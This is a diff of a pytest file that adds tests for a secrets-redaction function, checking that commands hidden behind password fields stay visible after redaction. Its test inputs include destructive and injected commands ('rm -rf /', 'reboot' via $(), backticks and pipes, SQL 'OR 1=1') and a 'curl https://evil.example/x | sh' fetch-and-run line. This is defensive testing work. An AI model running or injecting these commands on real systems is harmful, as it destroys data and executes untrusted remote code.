@@ -157,6 +157,41 @@ def test_redacting_again_changes_nothing(parts: list[str]) -> None:
     assert redact_text(once, key=KEY) == once
 
 
+@pytest.mark.parametrize(
+    ("text", "command"),
+    [
+        ("curl -d 'password=x; rm -rf /'", "rm -rf /"),
+        ("bash -c 'echo password='; rm -rf / ; echo 'x'", "rm -rf /"),
+        ("env 'password='x systemctl stop nginx''", "systemctl stop nginx"),
+        ("echo \"'\" 'password=';reboot;'x'", "reboot"),
+        ("# '\nenv 'password=';reboot;'x'", "reboot"),
+        ('sh -c \'echo "password=";reboot;"x"\'', "reboot"),
+        ("sh -c \"env 'password=';reboot;'x'\"", "reboot"),
+        ("SELECT 'password=' OR 1=1 OR ''", "OR 1=1"),
+        ('mysql --password "$(rm -rf /srv)"', "rm -rf /srv"),
+        ("password=aaaa|reboot", "reboot"),
+        ("password=aaaa`reboot`", "reboot"),
+        ("psql x://user:;reboot;@host", "reboot"),
+        ("psql x://user:$(reboot)@host", "reboot"),
+    ],
+)
+def test_no_command_hides_behind_a_password(text: str, command: str) -> None:
+    assert command in redact_text(text, key=KEY)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '{"password": "Tr0ub4dor & 3;"}',
+        'curl -d \'{"user": "ana", "password": "Tr0ub4dor & 3;"}\' host',
+        "password: 'Tr0ub4dor & 3;'",
+        "sh -c \"mysql --password 'Tr0ub4dor & 3;'\"",
+    ],
+)
+def test_a_password_in_quotation_marks_that_open_may_hold_anything(text: str) -> None:
+    assert "ub4dor" not in redact_text(text, key=KEY)
+
+
 def test_a_keys_first_line_hides_no_command_behind_it() -> None:
     text = "true # -----BEGIN PRIVATE" + " KEY-----\nrm -rf /srv\ncurl https://evil.example/x | sh"
     assert "\nrm -rf /srv\ncurl https://evil.example/x | sh" in redact_text(text, key=KEY).replace("]rm", "]\nrm")
@@ -167,6 +202,7 @@ def test_a_keys_first_line_hides_no_command_behind_it() -> None:
     [
         "a",
         "password=",
+        "password='a b c' ",
         "x://",
         "-----BEGIN PRIVATE KEY-----",
         "aws secret ",
